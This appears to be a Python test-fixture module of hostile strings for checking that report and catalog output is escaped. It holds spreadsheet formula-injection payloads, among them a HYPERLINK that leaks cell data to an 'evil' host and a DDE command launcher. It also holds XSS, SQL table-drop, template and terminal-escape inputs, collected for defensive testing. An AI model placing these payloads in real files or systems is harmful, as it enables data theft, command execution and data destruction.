"""Texts that someone would put into a catalog or a report to reach those who read it."""

FORMULAS = (
    '=HYPERLINK("http://evil/?"&A1,"see")',
    "=1+1",
    " =1+1",
    "\t=1",
    "\r=1",
    "\n=1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "+7 925",
    "-2+3",
    "-",
    "@SUM(A1)",
    "|cmd",
    "%PATH%",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1+1",
    "\uff20SUM",
    "=cmd|' /C calc'!A0",
)
"""What a spreadsheet may run. Source: OWASP, CSV injection; what begins with a blank or another sign some trim."""

SPLIT_FORMULAS = (
    "a;=1+1;",
    "a;\t-2+3",
    'a";=1+1;"',
    "a\n=1+1",
    "a\r\n@SUM(A1)",
    'a","=1+1',
    "a\t=1+1\tb",
    "a\n =1+1;b",
)
"""What becomes a cell of its own where a spreadsheet splits at another sign, as Excel does by its country."""

NUMBERS = ("-5", "+1.5", "-0.35", "12")
"""Texts that are numbers and stay so."""

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "**[x](javascript:alert(1))**",
    "[x](http://evil) ![y](http://evil/y.png) `c` :smile: $a^2$ # h",
    "{title} {0} %s ${7*7} {{7*7}}",
    "'; drop table release_predictions; --",
    '"; drop table release_predictions; --',
    "</style><!--",
    "\x1b]0;owned\x07\x1b[31mred",
    "[red]rich[/red] [link=http://evil]x[/link] [/]",
    "\u202eright to left",
)
"""What a browser, Markdown, a template, a terminal or SQL may take for its own."""

TEXTS = (*FORMULAS, *SPLIT_FORMULAS, *NUMBERS, *MARKUP)
